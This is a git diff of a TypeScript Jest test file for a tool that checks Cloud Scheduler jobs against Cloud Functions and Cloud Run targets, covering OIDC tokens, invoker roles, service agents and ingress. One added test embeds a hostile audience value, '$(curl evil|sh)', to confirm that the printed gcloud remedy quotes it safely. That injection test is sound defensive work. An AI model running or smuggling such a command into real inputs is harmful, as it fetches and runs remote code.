@@ -1,85 +1,46 @@
 import { describe, expect, it } from '@jest/globals'
+import type { IamApi } from '../../src/google/clients'
 import type { Binding, Job, Policy } from '../../src/google/types'
-import { readSettings, type Settings } from '../../src/inputs'
-import type { Observed, ObservedJob, TargetState } from '../../src/observe'
-import { hasBlocker, hasDrift, plan, type Check, type CheckId, type JobPlan } from '../../src/plan'
+import { applyPlan } from '../../src/engine/apply'
+import { knownPolicies, type Observed, type ObservedJob } from '../../src/engine/observe'
+import { hasBlocker, hasDrift, plan, type Change, type Check, type CheckId, type JobPlan, type Plan } from '../../src/engine/plan'
+import { functionName, originOf, serviceName } from '../../src/names'
+import { readSettings, type Settings } from '../../src/settings'
+import type { Target } from '../../src/targets'
+import { MemoryGoogle } from '../fixtures/google'
+import { AGENT, FN, FN_URL, JOB, L, MEMBER, NUM, P, R, RUN_HASH_URL, RUN_URL, SA as SA_OF, SVC as SVC_OF } from '../fixtures/names'
+import { gen1Target, gen2Target, iamPolicy, serviceTarget, type Gen1Read, type Gen2Read, type ServiceRead } from '../fixtures/targets'
 
 // ---- the world the plans are made over -------------------------------------------------------
 
-const P = 'my-proj'
-const NUM = '123456789012'
-const SA = 'invoker@my-proj.iam.gserviceaccount.com'
-const SA2 = 'other@my-proj.iam.gserviceaccount.com'
-const OLD = 'old@my-proj.iam.gserviceaccount.com'
-const M = `serviceAccount:${SA}`
-const M2 = `serviceAccount:${SA2}`
-const AGENT = `serviceAccount:service-${NUM}@gcp-sa-cloudscheduler.iam.gserviceaccount.com`
+const SA = SA_OF()
+const SA2 = SA_OF('other')
+const OLD = SA_OF('old')
+const M = MEMBER(SA)
+const M2 = MEMBER(SA2)
+const AGENT_M = MEMBER(AGENT)
 const AGENT_ROLE = 'roles/cloudscheduler.serviceAgent'
 const CF_INVOKER = 'roles/cloudfunctions.invoker'
 const RUN_INVOKER = 'roles/run.invoker'
 
-const JOB = (id = 'j1'): string => `projects/${P}/locations/us-central1/jobs/${id}`
-const FN1 = `projects/${P}/locations/us-central1/functions/fn1`
-const FN1_URL = 'https://us-central1-my-proj.cloudfunctions.net/fn1'
-const FN2 = `projects/${P}/locations/us-central1/functions/fn2`
-const FN2_SVC = `projects/${P}/locations/us-central1/services/fn2`
-const FN2_URL = 'https://us-central1-my-proj.cloudfunctions.net/fn2'
-const FN2_RUN = 'https://fn2-abc123-uc.a.run.app'
-const SVC = `projects/${P}/locations/us-central1/services/svc`
-const SVC_URL = 'https://svc-abc123-uc.a.run.app'
-const SVC_URL2 = `https://svc-${NUM}.us-central1.run.app`
+const FN1 = FN('fn1')
+const FN1_URL = FN_URL('fn1')
+const FN2 = FN('fn2')
+const FN2_SVC = SVC_OF('fn2')
+const FN2_URL = FN_URL('fn2')
+const FN2_RUN = RUN_HASH_URL('fn2')
+const SVC = SVC_OF('svc')
+const SVC_URL = RUN_HASH_URL('svc')
+const SVC_URL2 = RUN_URL('svc')
 const CUSTOM_AUD = 'https://api.example.com/scheduler'
 
-const policy = (...bindings: Binding[]): Policy => ({ version: 3, etag: 'BwX1', bindings })
+const policy = iamPolicy
 const bind = (role: string, ...members: string[]): Binding => ({ role, members })
 
-function gen1(over: Partial<TargetState> = {}): TargetState {
-  return {
-    kind: 'gen1',
-    name: FN1,
-    invokeResource: FN1,
-    invokerRole: CF_INVOKER,
-    functionUrl: FN1_URL,
-    serviceUrls: [],
-    customAudiences: [],
-    ingress: 'ALLOW_ALL',
-    invokerIamDisabled: false,
-    policy: policy(bind(CF_INVOKER, M)),
-    ...over
-  }
-}
-
-function gen2(over: Partial<TargetState> = {}): TargetState {
-  return {
-    kind: 'gen2',
-    name: FN2,
-    invokeResource: FN2_SVC,
-    invokerRole: RUN_INVOKER,
-    functionUrl: FN2_URL,
-    serviceUrls: [FN2_RUN, `https://fn2-${NUM}.us-central1.run.app`],
-    customAudiences: [],
-    ingress: 'INGRESS_TRAFFIC_ALL',
-    invokerIamDisabled: false,
-    policy: policy(bind(RUN_INVOKER, M)),
-    functionPolicy: policy(),
-    ...over
-  }
-}
-
-function service(over: Partial<TargetState> = {}): TargetState {
-  return {
-    kind: 'service',
-    name: SVC,
-    invokeResource: SVC,
-    invokerRole: RUN_INVOKER,
-    serviceUrls: [SVC_URL, SVC_URL2],
-    customAudiences: [],
-    ingress: 'INGRESS_TRAFFIC_ALL',
-    invokerIamDisabled: false,
-    policy: policy(bind(RUN_INVOKER, M)),
-    ...over
-  }
-}
+// The targets below are healthy by default: the job account holds the invoker role.
+const gen1 = (r: Gen1Read = {}): Target => gen1Target({ name: FN1, policy: policy(bind(CF_INVOKER, M)), ...r })
+const gen2 = (r: Gen2Read = {}): Target => gen2Target({ name: FN2, service: FN2_SVC, policy: policy(bind(RUN_INVOKER, M)), ...r })
+const service = (r: ServiceRead = {}): Target => serviceTarget({ name: SVC, policy: policy(bind(RUN_INVOKER, M)), ...r })
 
 interface Token {
   oidc?: { sa?: string; aud?: string }
@@ -109,17 +70,18 @@ function job(id: string, uri: string, token: Token, state: Job['state'] = 'ENABL
   }
 }
 
-const healthyProjectPolicy = (): Policy => policy(bind(AGENT_ROLE, AGENT), bind('roles/owner', 'user:owner@example.com'))
+const healthyProjectPolicy = (): Policy => policy(bind(AGENT_ROLE, AGENT_M), bind('roles/owner', 'user:owner@example.com'))
 
-function observed(jobs: ObservedJob[], targets: TargetState[], projectPolicy: Policy = healthyProjectPolicy()): Observed {
-  return { project: { id: P, number: NUM }, projectPolicy, jobs, targets: Object.fromEntries(targets.map(t => [t.invokeResource, t])) }
+/** Targets keyed by their own name, as observe keys them. */
+function observed(jobs: ObservedJob[], targets: Target[], projectPolicy: Policy = healthyProjectPolicy()): Observed {
+  return { project: { id: P, number: NUM }, projectPolicy, jobs, targets: Object.fromEntries(targets.map(t => [t.name, t])) }
 }
 
 /** One job on one target. */
-const one = (t: TargetState, j: Job, projectPolicy?: Policy): Observed => observed([{ name: j.name, job: j, target: t.invokeResource }], [t], projectPolicy)
+const one = (t: Target, j: Job, projectPolicy?: Policy): Observed => observed([{ name: j.name, job: j, target: t.name }], [t], projectPolicy)
 
 const settings = (extra: Record<string, string> = {}): Settings => {
-  const inputs: Record<string, string> = { job: 'j1', project_id: P, region: 'us-central1', ...extra }
+  const inputs: Record<string, string> = { job: 'j1', project_id: P, region: R, ...extra }
   return readSettings(n => inputs[n] ?? '', {})
 }
 
@@ -130,13 +92,46 @@ const notOk = (j: JobPlan): CheckId[] =>
     .map(c => c.id)
     .sort()
 
+type OidcChange = Extract<Change, { kind: 'job.oidc' }>
+const oidcChanges = (p: Plan): OidcChange[] => p.changes.filter((c): c is OidcChange => c.kind === 'job.oidc')
+
+/** The job patches fix mode sends for a plan's token changes: apply derives each mask from before/after. */
+async function patchesOf(p: Plan, jobs: Job[]): Promise<{ job: string; oidcToken: unknown; updateMask: string[] }[]> {
+  const g = new MemoryGoogle({ jobs })
+  await applyPlan(g, { jobs: p.jobs, changes: oidcChanges(p) }, {})
+  const calls = g.callsTo('scheduler.patchJob') as { name: string; job: Job; updateMask: string[] }[]
+  return calls.map(c => ({ job: c.name, oidcToken: c.job.httpTarget?.oidcToken, updateMask: c.updateMask }))
+}
+
+/** The IAM writes a plan's grants make: one per resource, on the surface its policy was read from. */
+interface Grant {
+  resource: string
+  api: IamApi
+  role: string
+  members: string[]
+}
+function grantsOf(p: Plan, o: Observed): Grant[] {
+  const policies = knownPolicies(o)
+  const out = new Map<string, Grant>()
+  for (const c of p.changes) {
+    if (c.kind === 'job.oidc') continue
+    const g = out.get(c.resource) ?? { resource: c.resource, api: policies[c.resource].iam, role: c.after.role, members: [] }
+    out.set(c.resource, g)
+    g.members.push(c.after.member)
+  }
+  return [...out.values()]
+}
+const GEN1_IAM: IamApi = 'cloudfunctions.v1'
+const RUN_IAM: IamApi = 'run.v2'
+const PROJECT_IAM: IamApi = 'cloudresourcemanager.v1'
+
 const MASK_SA = 'httpTarget.oidcToken.serviceAccountEmail'
 const MASK_AUD = 'httpTarget.oidcToken.audience'
 
 // ---- healthy setups ---------------------------------------------------------------------------
 
 describe('healthy setups change nothing', () => {
-  it.each<[string, TargetState, Job, Record<string, string>?]>([
+  it.each<[string, Target, Job, Record<string, string>?]>([
     ['gen 1 function', gen1(), job('j1', FN1_URL, { oidc: { sa: SA, aud: FN1_URL } })],
     ['gen 1 function with a query string on the URI', gen1(), job('j1', `${FN1_URL}?mode=nightly`, { oidc: { sa: SA, aud: FN1_URL } })],
     ['gen 1 function, empty audience, URI equals the function URL', gen1(), job('j1', FN1_URL, { oidc: { sa: SA } })],
@@ -160,17 +155,19 @@ describe('healthy setups change nothing', () => {
     ]
   ])('%s', (_, t, j, ...rest) => {
     const [extra] = rest // rest: jest would pass `done` to a declared 4th parameter when a row omits it
-    const p = plan(one(t, j), settings(extra))
+    const o = one(t, j)
+    const p = plan(o, settings(extra))
     expect(p.changes).toEqual([])
-    expect(p.patches).toEqual([])
-    expect(p.grants).toEqual([])
+    expect(oidcChanges(p)).toEqual([])
+    expect(grantsOf(p, o)).toEqual([])
     expect(p.jobs).toHaveLength(1)
     const jp = p.jobs[0]
     expect(jp.checks.filter(c => c.severity !== 'ok')).toEqual([])
     expect(jp.checks.map(c => c.id).sort()).toEqual(
       ['iam.invoker', 'iam.service_agent', 'job.audience', 'job.service_account', 'job.state', 'job.token', 'job.type', 'job.uri', 'target.ingress'].sort()
     )
-    expect(jp).toMatchObject({ job: JOB(), target: t.name, targetKind: t.kind, invokeResource: t.invokeResource, invoker: SA })
+    expect(jp).toMatchObject({ job: JOB(), target: t.name, bindingResource: t.bindingResource, invoker: SA })
+    expect(o.targets[jp.target!].kind).toBe(t.kind)
     expect(hasBlocker(jp) || hasDrift(jp)).toBe(false)
   })
 })
@@ -178,7 +175,7 @@ describe('healthy setups change nothing', () => {
 // ---- OIDC token drift -------------------------------------------------------------------------
 
 describe('OIDC token drift → one job.oidc change and a minimal patch', () => {
-  type Row = [string, TargetState, Job, Record<string, string>, CheckId[], string[], unknown, { serviceAccountEmail: string; audience: string }]
+  type Row = [string, Target, Job, Record<string, string>, CheckId[], string[], unknown, { serviceAccountEmail: string; audience: string }]
   it.each<Row>([
     [
       'missing token, invoker given',
@@ -253,11 +250,11 @@ describe('OIDC token drift → one job.oidc change and a minimal patch', () => {
     [
       'bare host audience on gen 1 → the full function URL',
       gen1(),
-      job('j1', FN1_URL, { oidc: { sa: SA, aud: 'https://us-central1-my-proj.cloudfunctions.net' } }),
+      job('j1', FN1_URL, { oidc: { sa: SA, aud: originOf(FN1_URL) } }),
       {},
       ['job.audience'],
       [MASK_AUD],
-      { serviceAccountEmail: SA, audience: 'https://us-central1-my-proj.cloudfunctions.net' },
+      { serviceAccountEmail: SA, audience: originOf(FN1_URL) },
       { serviceAccountEmail: SA, audience: FN1_URL }
     ],
     [
@@ -290,8 +287,9 @@ describe('OIDC token drift → one job.oidc change and a minimal patch', () => {
       { serviceAccountEmail: OLD, audience: `${SVC_URL}/tasks` },
       { serviceAccountEmail: SA, audience: SVC_URL }
     ]
-  ])('%s', (_, t, j, extra, failing, mask, before, after) => {
-    const p = plan(one(t, j), settings(extra))
+  ])('%s', async (_, t, j, extra, failing, mask, before, after) => {
+    const o = one(t, j)
+    const p = plan(o, settings(extra))
     const jp = p.jobs[0]
     expect(notOk(jp)).toEqual([...failing].sort())
     for (const id of failing) expect(byId(jp)[id]).toMatchObject({ severity: 'error', fixedBy: 'job.oidc' })
@@ -299,18 +297,32 @@ describe('OIDC token drift → one job.oidc change and a minimal patch', () => {
     expect(hasBlocker(jp)).toBe(false)
     expect(hasDrift(jp)).toBe(true)
     expect(p.changes).toEqual([{ job: JOB(), resource: JOB(), kind: 'job.oidc', before, after }])
-    expect(p.patches).toHaveLength(1)
-    expect(p.patches[0]).toEqual({ job: JOB(), oidcToken: after, updateMask: expect.any(Array) })
-    expect([...p.patches[0].updateMask].sort()).toEqual([...mask].sort())
-    expect(p.grants).toEqual([])
+    const patches = await patchesOf(p, [j])
+    expect(patches).toHaveLength(1)
+    expect(patches[0]).toEqual({ job: JOB(), oidcToken: after, updateMask: expect.any(Array) })
+    expect([...patches[0].updateMask].sort()).toEqual([...mask].sort())
+    expect(grantsOf(p, o)).toEqual([])
     expect(jp.invoker).toBe(SA)
     expect(jp.audience).toBe(after.audience)
   })
 
-  it('a change to the account alone keeps a custom audience', () => {
+  it('a change to the account alone keeps a custom audience', async () => {
     const t = service({ customAudiences: [CUSTOM_AUD] })
-    const p = plan(one(t, job('j1', `${SVC_URL}/x`, { oidc: { sa: OLD, aud: CUSTOM_AUD } })), settings({ invoker_service_account: SA }))
-    expect(p.patches).toEqual([{ job: JOB(), oidcToken: { serviceAccountEmail: SA, audience: CUSTOM_AUD }, updateMask: [MASK_SA] }])
+    const j = job('j1', `${SVC_URL}/x`, { oidc: { sa: OLD, aud: CUSTOM_AUD } })
+    const p = plan(one(t, j), settings({ invoker_service_account: SA }))
+    expect(await patchesOf(p, [j])).toEqual([{ job: JOB(), oidcToken: { serviceAccountEmail: SA, audience: CUSTOM_AUD }, updateMask: [MASK_SA] }])
+  })
+
+  it('a hostile custom audience is single-quoted in the remedy command', () => {
+    // A custom audience is whatever the service's owner set: the command a person pastes must not run it.
+    const HOSTILE = 'https://x.run.app/;$(curl evil|sh)'
+    const t = service({ customAudiences: [HOSTILE] })
+    const p = plan(one(t, job('j1', `${SVC_URL}/x`, { oidc: { sa: OLD, aud: HOSTILE } })), settings({ invoker_service_account: SA }))
+    const remedy = byId(p.jobs[0])['job.service_account']!.remedy
+    expect(remedy).toBe(
+      `gcloud scheduler jobs update http j1 --project ${P} --location ${R} --oidc-service-account-email ${SA} --oidc-token-audience 'https://x.run.app/;$(curl evil|sh)'`
+    )
+    expect(remedy!.replace(`'${HOSTILE}'`, '')).not.toContain('$(')
   })
 })
 
@@ -318,50 +330,51 @@ describe('OIDC token drift → one job.oidc change and a minimal patch', () => {
 
 describe('invoker role', () => {
   const CONDITION = { expression: 'request.time < timestamp("2030-01-01T00:00:00Z")', title: 'temporary' }
-  type Row = [string, TargetState, RegExp, { resource: string; api: string; role: string }]
+  type Row = [string, Target, RegExp, { resource: string; api: IamApi; role: string }]
   it.each<Row>([
-    ['missing on a gen 1 function', gen1({ policy: policy() }), /missing/, { resource: FN1, api: 'gen1', role: CF_INVOKER }],
-    ['missing on a service', service({ policy: policy(bind('roles/run.developer', M)) }), /missing/, { resource: SVC, api: 'run', role: RUN_INVOKER }],
+    ['missing on a gen 1 function', gen1({ policy: policy() }), /missing/, { resource: FN1, api: GEN1_IAM, role: CF_INVOKER }],
+    ['missing on a service', service({ policy: policy(bind('roles/run.developer', M)) }), /missing/, { resource: SVC, api: RUN_IAM, role: RUN_INVOKER }],
     [
       'roles/cloudfunctions.invoker on a gen 2 function → grant roles/run.invoker on its service',
-      gen2({ policy: policy(), functionPolicy: policy(bind(CF_INVOKER, M)) }),
+      gen2({ policy: policy(), lookalikePolicy: policy(bind(CF_INVOKER, M)) }),
       /roles\/cloudfunctions\.invoker/,
-      { resource: FN2_SVC, api: 'run', role: RUN_INVOKER }
+      { resource: FN2_SVC, api: RUN_IAM, role: RUN_INVOKER }
     ],
     [
       'held by the Scheduler service agent instead of the job account',
-      service({ policy: policy(bind(RUN_INVOKER, AGENT)) }),
+      service({ policy: policy(bind(RUN_INVOKER, AGENT_M)) }),
       /service agent/,
-      { resource: SVC, api: 'run', role: RUN_INVOKER }
+      { resource: SVC, api: RUN_IAM, role: RUN_INVOKER }
     ],
     [
       'held by the Scheduler service agent on a gen 1 function',
-      gen1({ policy: policy(bind(CF_INVOKER, AGENT)) }),
+      gen1({ policy: policy(bind(CF_INVOKER, AGENT_M)) }),
       /service agent/,
-      { resource: FN1, api: 'gen1', role: CF_INVOKER }
+      { resource: FN1, api: GEN1_IAM, role: CF_INVOKER }
     ],
     [
       'only in a conditional binding',
       service({ policy: policy({ role: RUN_INVOKER, members: [M], condition: CONDITION }) }),
       /conditional/,
-      { resource: SVC, api: 'run', role: RUN_INVOKER }
+      { resource: SVC, api: RUN_IAM, role: RUN_INVOKER }
     ],
     [
       'held by someone else only',
       gen1({ policy: policy(bind(CF_INVOKER, M2)) }),
       new RegExp(M2.replace(/[.]/g, '\\.')),
-      { resource: FN1, api: 'gen1', role: CF_INVOKER }
+      { resource: FN1, api: GEN1_IAM, role: CF_INVOKER }
     ],
     [
       'the wrong role on a gen 1 function (roles/run.invoker)',
       gen1({ policy: policy(bind(RUN_INVOKER, M)) }),
       /roles\/run\.invoker/,
-      { resource: FN1, api: 'gen1', role: CF_INVOKER }
+      { resource: FN1, api: GEN1_IAM, role: CF_INVOKER }
     ]
   ])('%s', (_, t, found, grant) => {
-    const uri = t.kind === 'gen1' ? FN1_URL : t.kind === 'gen2' ? FN2_URL : `${SVC_URL}/x`
-    const aud = t.kind === 'gen1' ? FN1_URL : t.kind === 'gen2' ? FN2_URL : SVC_URL
-    const p = plan(one(t, job('j1', uri, { oidc: { sa: SA, aud } })), settings())
+    const uri = t.kind.id === 'gen1' ? FN1_URL : t.kind.id === 'gen2' ? FN2_URL : `${SVC_URL}/x`
+    const aud = t.kind.id === 'gen1' ? FN1_URL : t.kind.id === 'gen2' ? FN2_URL : SVC_URL
+    const o = one(t, job('j1', uri, { oidc: { sa: SA, aud } }))
+    const p = plan(o, settings())
     const jp = p.jobs[0]
     expect(notOk(jp)).toEqual(['iam.invoker'])
     const c = byId(jp)['iam.invoker']!
@@ -370,26 +383,27 @@ describe('invoker role', () => {
     expect(c.found).toMatch(found)
     expect(c.expected).toContain(grant.role)
     expect(c.remedy).toContain(M)
-    expect(p.grants).toEqual([{ ...grant, members: [M] }])
+    expect(grantsOf(p, o)).toEqual([{ ...grant, members: [M] }])
     expect(p.changes).toEqual([{ job: JOB(), resource: grant.resource, kind: 'iam.invoker', before: null, after: { role: grant.role, member: M } }])
-    expect(p.patches).toEqual([])
+    expect(oidcChanges(p)).toEqual([])
   })
 
-  it.each<[string, TargetState, Policy?]>([
-    ['role on the project (inherited), Cloud Run', service({ policy: policy() }), policy(bind(AGENT_ROLE, AGENT), bind(RUN_INVOKER, M))],
-    ['role on the project (inherited), gen 1', gen1({ policy: policy() }), policy(bind(AGENT_ROLE, AGENT), bind(CF_INVOKER, M))],
+  it.each<[string, Target, Policy?]>([
+    ['role on the project (inherited), Cloud Run', service({ policy: policy() }), policy(bind(AGENT_ROLE, AGENT_M), bind(RUN_INVOKER, M))],
+    ['role on the project (inherited), gen 1', gen1({ policy: policy() }), policy(bind(AGENT_ROLE, AGENT_M), bind(CF_INVOKER, M))],
     ['allUsers on a service', service({ policy: policy(bind(RUN_INVOKER, 'allUsers')) })],
     ['allUsers on a gen 1 function', gen1({ policy: policy(bind(CF_INVOKER, 'allUsers')) })],
     ['invokerIamDisabled service', service({ policy: policy(), invokerIamDisabled: true })],
     ['invokerIamDisabled gen 2 function', gen2({ policy: policy(), invokerIamDisabled: true })]
   ])('%s → ok, no grant', (_, t, ...rest) => {
     const [projectPolicy] = rest
-    const uri = t.kind === 'gen1' ? FN1_URL : t.kind === 'gen2' ? FN2_URL : `${SVC_URL}/x`
-    const aud = t.kind === 'gen1' ? FN1_URL : t.kind === 'gen2' ? FN2_URL : SVC_URL
-    const p = plan(one(t, job('j1', uri, { oidc: { sa: SA, aud } }), projectPolicy), settings())
+    const uri = t.kind.id === 'gen1' ? FN1_URL : t.kind.id === 'gen2' ? FN2_URL : `${SVC_URL}/x`
+    const aud = t.kind.id === 'gen1' ? FN1_URL : t.kind.id === 'gen2' ? FN2_URL : SVC_URL
+    const o = one(t, job('j1', uri, { oidc: { sa: SA, aud } }), projectPolicy)
+    const p = plan(o, settings())
     expect(byId(p.jobs[0])['iam.invoker']?.severity).toBe('ok')
     expect(notOk(p.jobs[0])).toEqual([])
-    expect(p.grants).toEqual([])
+    expect(grantsOf(p, o)).toEqual([])
     expect(p.changes).toEqual([])
   })
 
@@ -401,9 +415,10 @@ describe('invoker role', () => {
   })
 
   it('the account from invoker_service_account is the one checked and granted', () => {
-    const t = gen1({ policy: policy(bind(CF_INVOKER, `serviceAccount:${OLD}`)) })
-    const p = plan(one(t, job('j1', FN1_URL, { oidc: { sa: OLD, aud: FN1_URL } })), settings({ invoker_service_account: SA }))
-    expect(p.grants).toEqual([{ resource: FN1, api: 'gen1', role: CF_INVOKER, members: [M] }])
+    const t = gen1({ policy: policy(bind(CF_INVOKER, MEMBER(OLD))) })
+    const o = one(t, job('j1', FN1_URL, { oidc: { sa: OLD, aud: FN1_URL } }))
+    const p = plan(o, settings({ invoker_service_account: SA }))
+    expect(grantsOf(p, o)).toEqual([{ resource: FN1, api: GEN1_IAM, role: CF_INVOKER, members: [M] }])
     expect(p.changes.map(c => c.kind).sort()).toEqual(['iam.invoker', 'job.oidc'])
   })
 })
@@ -411,27 +426,30 @@ describe('invoker role', () => {
 // ---- shared targets and the service agent ----------------------------------------------------
 
 describe('several jobs', () => {
-  const jobsOn = (t: TargetState, accounts: string[]): Observed =>
+  const jobsOn = (t: Target, accounts: string[]): Observed =>
     observed(
       accounts.map((sa, i) => {
         const j = job(`j${i + 1}`, FN1_URL, { oidc: { sa, aud: FN1_URL } })
-        return { name: j.name, job: j, target: t.invokeResource }
+        return { name: j.name, job: j, target: t.name }
       }),
       [t]
     )
 
   it('three jobs on one target, one account → ONE grant with the member once', () => {
-    const p = plan(jobsOn(gen1({ policy: policy() }), [SA, SA, SA]), settings({ job: 'j1,j2,j3' }))
-    expect(p.grants).toEqual([{ resource: FN1, api: 'gen1', role: CF_INVOKER, members: [M] }])
+    const o = jobsOn(gen1({ policy: policy() }), [SA, SA, SA])
+    const p = plan(o, settings({ job: 'j1,j2,j3' }))
+    expect(grantsOf(p, o)).toEqual([{ resource: FN1, api: GEN1_IAM, role: CF_INVOKER, members: [M] }])
     expect(p.changes).toEqual([{ job: JOB('j1'), resource: FN1, kind: 'iam.invoker', before: null, after: { role: CF_INVOKER, member: M } }])
     for (const jp of p.jobs) expect(byId(jp)['iam.invoker']).toMatchObject({ severity: 'error', fixedBy: 'iam.invoker' })
   })
 
   it('three jobs on one target, two accounts → one grant with both members', () => {
-    const p = plan(jobsOn(gen1({ policy: policy() }), [SA, SA2, SA]), settings({ job: 'j1,j2,j3' }))
-    expect(p.grants).toHaveLength(1)
-    expect(p.grants[0]).toMatchObject({ resource: FN1, api: 'gen1', role: CF_INVOKER })
-    expect([...p.grants[0].members].sort()).toEqual([M, M2].sort())
+    const o = jobsOn(gen1({ policy: policy() }), [SA, SA2, SA])
+    const p = plan(o, settings({ job: 'j1,j2,j3' }))
+    const grants = grantsOf(p, o)
+    expect(grants).toHaveLength(1)
+    expect(grants[0]).toMatchObject({ resource: FN1, api: GEN1_IAM, role: CF_INVOKER })
+    expect([...grants[0].members].sort()).toEqual([M, M2].sort())
     const iamChanges = p.changes.filter(c => c.kind === 'iam.invoker')
     expect(iamChanges.map(c => (c.after as { member: string }).member).sort()).toEqual([M, M2].sort())
     expect(new Set(iamChanges.map(c => c.resource))).toEqual(new Set([FN1]))
@@ -446,15 +464,15 @@ describe('several jobs', () => {
       expect(byId(jp)['iam.service_agent']).toMatchObject({ severity: 'error', fixedBy: 'iam.service_agent' })
     }
     expect(p.changes).toEqual([
-      { job: JOB('j1'), resource: `projects/${P}`, kind: 'iam.service_agent', before: null, after: { role: AGENT_ROLE, member: AGENT } }
+      { job: JOB('j1'), resource: `projects/${P}`, kind: 'iam.service_agent', before: null, after: { role: AGENT_ROLE, member: AGENT_M } }
     ])
-    expect(p.grants).toEqual([{ resource: `projects/${P}`, api: 'project', role: AGENT_ROLE, members: [AGENT] }])
-    expect(p.patches).toEqual([])
+    expect(grantsOf(p, o)).toEqual([{ resource: `projects/${P}`, api: PROJECT_IAM, role: AGENT_ROLE, members: [AGENT_M] }])
+    expect(oidcChanges(p)).toEqual([])
   })
 
   it('service agent role only in a conditional binding does not count', () => {
     const o = jobsOn(gen1(), [SA])
-    o.projectPolicy = policy({ role: AGENT_ROLE, members: [AGENT], condition: { expression: 'false' } })
+    o.projectPolicy = policy({ role: AGENT_ROLE, members: [AGENT_M], condition: { expression: 'false' } })
     const p = plan(o, settings())
     expect(p.changes.map(c => c.kind)).toEqual(['iam.service_agent'])
   })
@@ -465,7 +483,7 @@ describe('several jobs', () => {
     const p = plan(o, settings({ job: 'j1,j2', check_service_agent: 'false' }))
     for (const jp of p.jobs) expect(byId(jp)['iam.service_agent']).toBeUndefined()
     expect(p.changes).toEqual([])
-    expect(p.grants).toEqual([])
+    expect(grantsOf(p, o)).toEqual([])
   })
 
   it('jobs on two targets → one grant per target', () => {
@@ -483,7 +501,11 @@ describe('several jobs', () => {
       [f, s]
     )
     const p = plan(o, settings({ job: 'j1,j2,j3' }))
-    expect(p.grants.map(g => [g.resource, g.role, g.members]).sort()).toEqual(
+    expect(
+      grantsOf(p, o)
+        .map(g => [g.resource, g.role, g.members])
+        .sort()
+    ).toEqual(
       [
         [FN1, CF_INVOKER, [M]],
         [SVC, RUN_INVOKER, [M]]
@@ -495,7 +517,7 @@ describe('several jobs', () => {
 // ---- findings the action cannot fix ----------------------------------------------------------
 
 describe("internal ingress in the job's own project admits Cloud Scheduler", () => {
-  it.each<[string, TargetState, string]>([
+  it.each<[string, Target, string]>([
     ['gen 1 ALLOW_INTERNAL_ONLY', gen1({ ingress: 'ALLOW_INTERNAL_ONLY' }), FN1_URL],
     ['gen 1 ALLOW_INTERNAL_AND_GCLB', gen1({ ingress: 'ALLOW_INTERNAL_AND_GCLB' }), FN1_URL],
     ['gen 2 INGRESS_TRAFFIC_INTERNAL_ONLY', gen2({ ingress: 'INGRESS_TRAFFIC_INTERNAL_ONLY' }), FN2_URL],
@@ -509,38 +531,35 @@ describe("internal ingress in the job's own project admits Cloud Scheduler", () 
 })
 
 describe('blockers and warnings', () => {
-  const GOOGLE_API = `https://run.googleapis.com/v2/projects/${P}/locations/us-central1/jobs/etl:run`
+  const GOOGLE_API = `https://run.googleapis.com/v2/${L}/jobs/etl:run`
+  const OTHER = 'other-proj'
   type Row = [string, () => Observed, Record<string, string>, CheckId, RegExp?]
   it.each<Row>([
     [
       'gen 1 ingress ALLOW_INTERNAL_ONLY, function in another project than the job',
       () => {
-        const url = 'https://us-central1-other-proj.cloudfunctions.net/fn1'
-        const fn = 'projects/other-proj/locations/us-central1/functions/fn1'
-        return one(gen1({ name: fn, invokeResource: fn, functionUrl: url, ingress: 'ALLOW_INTERNAL_ONLY' }), job('j1', url, { oidc: { sa: SA, aud: url } }))
+        const t = gen1({ name: functionName({ project: OTHER, region: R, id: 'fn1' }), ingress: 'ALLOW_INTERNAL_ONLY' })
+        const url = t.urls[0]
+        return one(t, job('j1', url, { oidc: { sa: SA, aud: url } }))
       },
       {},
       'target.ingress',
-      /job is in project my-proj, the target in other-proj.*admits Cloud Scheduler only from other-proj/
+      new RegExp(`job is in project ${P}, the target in ${OTHER}.*admits Cloud Scheduler only from ${OTHER}`)
     ],
     [
       'gen 2 INGRESS_TRAFFIC_INTERNAL_ONLY, function in another project than the job',
       () => {
-        const url = 'https://us-central1-other-proj.cloudfunctions.net/fn2'
-        const svc = 'projects/other-proj/locations/us-central1/services/fn2'
-        return one(
-          gen2({
-            name: 'projects/other-proj/locations/us-central1/functions/fn2',
-            invokeResource: svc,
-            functionUrl: url,
-            ingress: 'INGRESS_TRAFFIC_INTERNAL_ONLY'
-          }),
-          job('j1', url, { oidc: { sa: SA, aud: url } })
-        )
+        const t = gen2({
+          name: functionName({ project: OTHER, region: R, id: 'fn2' }),
+          service: serviceName({ project: OTHER, region: R, id: 'fn2' }),
+          ingress: 'INGRESS_TRAFFIC_INTERNAL_ONLY'
+        })
+        const url = t.urls[0]
+        return one(t, job('j1', url, { oidc: { sa: SA, aud: url } }))
       },
       {},
       'target.ingress',
-      /other-proj/
+      new RegExp(OTHER)
     ],
     [
       'Cloud Run INGRESS_TRAFFIC_NONE',
@@ -552,25 +571,21 @@ describe('blockers and warnings', () => {
     ['UPDATE_FAILED job', () => one(gen1(), job('j1', FN1_URL, { oidc: { sa: SA, aud: FN1_URL } }, 'UPDATE_FAILED')), {}, 'job.state'],
     [
       'URI pointing at another function',
-      () =>
-        one(
-          gen1(),
-          job('j1', 'https://us-central1-my-proj.cloudfunctions.net/other', { oidc: { sa: SA, aud: 'https://us-central1-my-proj.cloudfunctions.net/other' } })
-        ),
+      () => one(gen1(), job('j1', FN_URL('other'), { oidc: { sa: SA, aud: FN_URL('other') } })),
       { function: 'fn1' },
       'job.uri',
       /fn1/
     ],
     [
       'URI pointing at another region',
-      () => one(gen1(), job('j1', 'https://europe-west1-my-proj.cloudfunctions.net/fn1', { oidc: { sa: SA, aud: FN1_URL } })),
+      () => one(gen1(), job('j1', `https://europe-west1-${P}.cloudfunctions.net/fn1`, { oidc: { sa: SA, aud: FN1_URL } })),
       { function: 'fn1' },
       'job.uri',
       /fn1/
     ],
     [
       'URI pointing at another Cloud Run service',
-      () => one(service(), job('j1', 'https://other-abc123-uc.a.run.app/x', { oidc: { sa: SA, aud: SVC_URL } })),
+      () => one(service(), job('j1', `${RUN_HASH_URL('other')}/x`, { oidc: { sa: SA, aud: SVC_URL } })),
       { service: 'svc' },
       'job.uri'
     ],
@@ -609,11 +624,7 @@ describe('blockers and warnings', () => {
     ],
     [
       'a job whose target could not be resolved',
-      () =>
-        observed(
-          [{ name: JOB(), job: job('j1', 'https://nope-abc123-uc.a.run.app/', { oidc: { sa: SA } }), targetError: 'no Cloud Run service serves it' }],
-          []
-        ),
